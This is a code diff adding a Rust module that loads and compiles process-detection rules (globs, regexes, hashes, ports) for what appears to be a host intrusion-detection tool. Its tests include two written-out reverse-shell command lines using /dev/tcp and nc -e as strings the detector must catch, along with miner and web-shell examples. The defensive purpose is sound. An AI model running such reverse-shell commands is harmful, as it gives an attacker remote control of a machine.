@@ -0,0 +1,277 @@
+//! Detection rule files.
+//!
+//! A rule file (YAML, or JSON with a `.json` extension) lists rules; every
+//! condition a rule sets must hold for it to match:
+//!
+//! ```yaml
+//! rules:
+//!   - id: xmrig-miner
+//!     description: XMRig cryptocurrency miner
+//!     severity: high
+//!     name: "xmrig*"              # glob on the process name
+//!     path: "/tmp/**"             # glob on the executable path
+//!     cmdline: "--donate-level"   # regex on the space-joined command line
+//!     sha256: ["9f86d08..."]      # executable hash is one of these
+//!     parent: "php-fpm*"          # glob on the parent's process name
+//!     listen_ports: [4444]        # has a listening socket on one of these
+//!     remote_ports: [3333, 5555]  # is connected to one of these
+//! ```
+
+use std::path::Path;
+
+use globset::{GlobBuilder, GlobMatcher};
+use regex::Regex;
+use serde::Deserialize;
+use synapse_core::error::{Error, Result};
+use synapse_core::ThreatLevel;
+
+/// How bad a match is.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum Severity {
+    Low,
+    Medium,
+    High,
+    Critical,
+}
+
+impl From<Severity> for ThreatLevel {
+    fn from(severity: Severity) -> Self {
+        match severity {
+            Severity::Low | Severity::Medium => ThreatLevel::Suspicious,
+            Severity::High => ThreatLevel::Malicious,
+            Severity::Critical => ThreatLevel::Critical,
+        }
+    }
+}
+
+#[derive(Debug, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct RuleFile {
+    rules: Vec<RuleSpec>,
+}
+
+#[derive(Debug, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct RuleSpec {
+    id: String,
+    #[serde(default)]
+    description: String,
+    severity: Severity,
+    name: Option<String>,
+    path: Option<String>,
+    cmdline: Option<String>,
+    #[serde(default)]
+    sha256: Vec<String>,
+    parent: Option<String>,
+    #[serde(default)]
+    listen_ports: Vec<u16>,
+    #[serde(default)]
+    remote_ports: Vec<u16>,
+}
+
+/// A compiled detection rule.
+#[derive(Debug, Clone)]
+pub struct Rule {
+    pub id: String,
+    pub description: String,
+    pub severity: Severity,
+    pub(crate) name: Option<GlobMatcher>,
+    pub(crate) path: Option<GlobMatcher>,
+    pub(crate) cmdline: Option<Regex>,
+    /// Lowercase hex digests
+    pub(crate) sha256: Vec<String>,
+    pub(crate) parent: Option<GlobMatcher>,
+    pub(crate) listen_ports: Vec<u16>,
+    pub(crate) remote_ports: Vec<u16>,
+}
+
+impl Rule {
+    fn compile(spec: RuleSpec) -> Result<Self> {
+        let invalid = |what: &str, e: &dyn std::fmt::Display| Error::Validation {
+            message: format!("rule {}: invalid {}: {}", spec.id, what, e),
+        };
+        // `*` stays within a path component; `**` crosses them
+        let glob = |pattern: &Option<String>, what: &str| {
+            pattern
+                .as_deref()
+                .map(|p| GlobBuilder::new(p).literal_separator(true).build())
+                .transpose()
+                .map(|glob| glob.map(|g| g.compile_matcher()))
+                .map_err(|e| invalid(what, &e))
+        };
+
+        let rule = Self {
+            name: glob(&spec.name, "name")?,
+            path: glob(&spec.path, "path")?,
+            parent: glob(&spec.parent, "parent")?,
+            cmdline: spec
+                .cmdline
+                .as_deref()
+                .map(Regex::new)
+                .transpose()
+                .map_err(|e| invalid("cmdline", &e))?,
+            sha256: spec.sha256.iter().map(|h| h.to_lowercase()).collect(),
+            listen_ports: spec.listen_ports,
+            remote_ports: spec.remote_ports,
+            id: spec.id,
+            description: spec.description,
+            severity: spec.severity,
+        };
+        if rule.id.trim().is_empty() {
+            return Err(Error::Validation {
+                message: "rule without an id".to_string(),
+            });
+        }
+        if !rule.has_conditions() {
+            return Err(Error::Validation {
+                message: format!(
+                    "rule {} has no conditions and would match everything",
+                    rule.id
+                ),
+            });
+        }
+        Ok(rule)
+    }
+
+    fn has_conditions(&self) -> bool {
+        self.name.is_some()
+            || self.path.is_some()
+            || self.cmdline.is_some()
+            || !self.sha256.is_empty()
+            || self.parent.is_some()
+            || !self.listen_ports.is_empty()
+            || !self.remote_ports.is_empty()
+    }
+
+    pub(crate) fn needs_sockets(&self) -> bool {
+        !self.listen_ports.is_empty() || !self.remote_ports.is_empty()
+    }
+}
+
+/// Parse the rules in one file.
+pub fn parse_rules(text: &str, json: bool) -> Result<Vec<Rule>> {
+    let file: RuleFile = if json {
+        serde_json::from_str(text).map_err(|e| e.to_string())
+    } else {
+        serde_yaml::from_str(text).map_err(|e| e.to_string())
+    }
+    .map_err(|e| Error::Validation {
+        message: format!("invalid rule file: {}", e),
+    })?;
+    file.rules.into_iter().map(Rule::compile).collect()
+}
+
+/// Load a rule file, or every `.yaml`, `.yml` and `.json` file in a directory.
+pub fn load_rules(path: &Path) -> Result<Vec<Rule>> {
+    let mut rules = Vec::new();
+    for file in rule_files(path)? {
+        let text = std::fs::read_to_string(&file).map_err(|e| {
+            Error::System(format!("Failed to read rules {}: {}", file.display(), e))
+        })?;
+        let json = file.extension().is_some_and(|ext| ext == "json");
+        rules.extend(parse_rules(&text, json).map_err(|e| Error::Validation {
+            message: format!("{}: {}", file.display(), e),
+        })?);
+    }
+
+    let mut ids = std::collections::HashSet::new();
+    if let Some(duplicate) = rules.iter().find(|r| !ids.insert(r.id.as_str())) {
+        return Err(Error::Validation {
+            message: format!("duplicate rule id {}", duplicate.id),
+        });
+    }
+    Ok(rules)
+}
+
+/// The files [`load_rules`] reads for `path`, sorted.
+pub(crate) fn rule_files(path: &Path) -> Result<Vec<std::path::PathBuf>> {
+    if !path.is_dir() {
+        return Ok(vec![path.to_path_buf()]);
+    }
+    let entries = std::fs::read_dir(path)
+        .map_err(|e| Error::System(format!("Failed to list {}: {}", path.display(), e)))?;
+    let mut files: Vec<_> = entries
+        .flatten()
+        .map(|entry| entry.path())
+        .filter(|p| {
+            p.is_file()
+                && matches!(
+                    p.extension().and_then(|e| e.to_str()),
+                    Some("yaml" | "yml" | "json")
+                )
+        })
+        .collect();
+    files.sort();
+    Ok(files)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_parse_rules() {
+        let rules = parse_rules(
+            r#"
+rules:
+  - id: miner
+    severity: high
+    name: "xmrig*"
+    cmdline: "--donate-level \\d+"
+    sha256: ["ABCDEF"]
+    remote_ports: [3333]
+  - id: webshell
+    description: Shell spawned by the web server
+    severity: critical
+    name: "sh"
+    parent: "php-fpm*"
+"#,
+            false,
+        )
+        .unwrap();
+
+        assert_eq!(rules.len(), 2);
+        assert_eq!(rules[0].sha256, vec!["abcdef"]);
+        assert!(rules[0].needs_sockets());
+        assert_eq!(ThreatLevel::from(rules[0].severity), ThreatLevel::Malicious);
+        assert_eq!(ThreatLevel::from(rules[1].severity), ThreatLevel::Critical);
+        assert!(rules[1].parent.as_ref().unwrap().is_match("php-fpm8.2"));
+    }
+
+    #[test]
+    fn test_rejects_bad_rules() {
+        let bad = [
+            // Matches everything
+            r#"{"rules": [{"id": "all", "severity": "low"}]}"#,
+            // Typo in a condition would silently widen the rule
+            r#"{"rules": [{"id": "x", "severity": "low", "nmae": "x"}]}"#,
+            r#"{"rules": [{"id": "x", "severity": "low", "cmdline": "("}]}"#,
+            r#"{"rules": [{"id": "x", "severity": "severe", "name": "x"}]}"#,
+            r#"{"rules": [{"id": "x", "severity": "low", "name": "{a,b"}]}"#,
+        ];
+        for text in bad {
+            assert!(parse_rules(text, true).is_err(), "{}", text);
+        }
+    }
+
+    #[test]
+    fn test_default_rules() {
+        let rules = load_rules(&Path::new(env!("CARGO_MANIFEST_DIR")).join("rules")).unwrap();
+        let rule = |id: &str| rules.iter().find(|r| r.id == id).unwrap();
+
+        let path = rule("temp-dir-binary").path.as_ref().unwrap();
+        assert!(path.is_match("/dev/shm/.x/kworker"));
+        assert!(!path.is_match("/usr/bin/tmp"));
+
+        let shell = rule("web-server-shell");
+        assert!(shell.name.as_ref().unwrap().is_match("bash"));
+        assert!(!shell.name.as_ref().unwrap().is_match("bashful"));
+        assert!(shell.parent.as_ref().unwrap().is_match("php-fpm8.2"));
+
+        let reverse = rule("reverse-shell").cmdline.as_ref().unwrap();
+        assert!(reverse.is_match("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"));
+        assert!(reverse.is_match("nc 10.0.0.1 4242 -e /bin/sh"));
+        assert!(!reverse.is_match("ncdu /home"));
+    }
+}